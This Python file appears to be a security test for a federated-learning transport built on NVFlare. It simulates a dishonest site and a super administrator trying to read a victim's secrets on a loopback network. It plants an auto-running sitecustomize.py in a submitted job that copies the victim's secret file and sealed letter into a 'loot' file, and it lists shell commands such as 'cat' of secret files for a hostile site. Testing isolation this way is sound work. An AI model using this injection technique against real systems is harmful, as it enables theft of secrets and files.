"""One network in which a site and an administrator are dishonest; writes what they came to.

NVFlare runs as a user of its own, the home belongs to this process's user, which must be root.
"""

import json
import os
import shutil
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from loopback import LoopbackNetwork

from likeset.transports.nvflare import CLASSES
from likeset.transports.stores import open_store

SUPER = "super@likeset.local"
VICTIM, HOSTILE = "victim", "hostile"
UID = 4001
FOLDER, NAME, LETTER = "a" * 32, "0" * 64, b"a sealed letter"
_SECONDS = 240.0


def wait_for(happened: Callable[[], bool]) -> None:
    end = time.monotonic() + _SECONDS
    while not happened() and time.monotonic() < end:
        time.sleep(0.3)


def submitted_by_super(net: LoopbackNetwork, folder: Path, home: Path) -> str:
    """How a job ends that brings code which copies the victim's home, submitted by an administrator of role super."""
    job = folder / "job"
    (job / "app" / "config").mkdir(parents=True)
    about = {"name": "x", "resource_spec": {}, "min_clients": 1, "deploy_map": {"app": ["server", VICTIM]}}
    (job / "meta.json").write_text(json.dumps(about))
    for side in ("server", "client"):
        config = {"format_version": 2, "workflows": [], "executors": [], "components": []}
        (job / "app" / "config" / f"config_fed_{side}.json").write_text(json.dumps(config))
    (job / "app" / "custom").mkdir()
    loot = folder / "loot"
    code = f"""import os
for path in ({str(home / "card.secret")!r}, {str(net.mailbox(VICTIM) / "out" / FOLDER / NAME)!r}):
    try:
        found = open(path, "rb").read().hex()
    except OSError as error:
        found = type(error).__name__
    with open({str(loot)!r}, "a") as file:
        file.write(found + "\\n")
"""
    (job / "app" / "custom" / "sitecustomize.py").write_text(code)
    with net.session(SUPER) as session:
        try:
            name = session.submit_job(str(job))
        except Exception as error:
            return type(error).__name__
        wait_for(lambda: str(session.get_job_meta(name).get("status")).startswith("FINISHED") or loot.exists())
        return str(session.get_job_meta(name).get("status"))


def main(folder: Path) -> dict[str, Any]:
    folder.chmod(0o711)
    home = folder / "home"
    home.mkdir(mode=0o700)
    (home / "card.secret").write_text("likeset card secret")
    (home / "card.secret").chmod(0o600)
    loot = folder / "loot"
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parent), "LIKESET_ATTACK": str(folder / "said" / "x")}
    net = LoopbackNetwork(folder / "network", (VICTIM, HOSTILE), environment, uid=UID, administrators={SUPER: "super"})
    net.provision()
    net.settle()
    (folder / "said").mkdir()
    shutil.chown(folder / "said", UID, UID)
    resources = net.kit(HOSTILE) / "local" / "resources.json"
    document = json.loads(resources.read_text())
    document["components"].append({"id": "hostile", "path": "hostile_site.Hostile", "args": {}})
    resources.write_text(json.dumps(document))
    store = open_store(f"courier://{net.mailbox(VICTIM)}")
    store.write(FOLDER, NAME, LETTER)
    loot_folder = folder / "said"
    commands = {
        "home": f"cat {home / 'card.secret'}",
        "letters": f"cat {net.mailbox(VICTIM) / 'out' / FOLDER / NAME}",
        "user": "id -u",
        "write": f"touch {net.mailbox(VICTIM) / 'out' / 'x'}",
    }
    (loot_folder / "orders.json").write_text(json.dumps({"victim": VICTIM, "commands": commands}))
    with net:
        net.start(net.server, VICTIM)
        time.sleep(8)
        net.start(HOSTILE)
        wait_for((loot_folder / "x").exists)
        found: dict[str, Any] = {"site": json.loads((loot_folder / "x").read_text())}
        found["super"] = submitted_by_super(net, folder, home)
        found["loot"] = loot.read_text() if loot.exists() else ""
    found["written"] = (net.mailbox(VICTIM) / "out" / "x").exists()
    found["classes"] = list(CLASSES)
    return found


if __name__ == "__main__":
    Path(sys.argv[1], "outcome.json").write_text(json.dumps(main(Path(sys.argv[1]))))
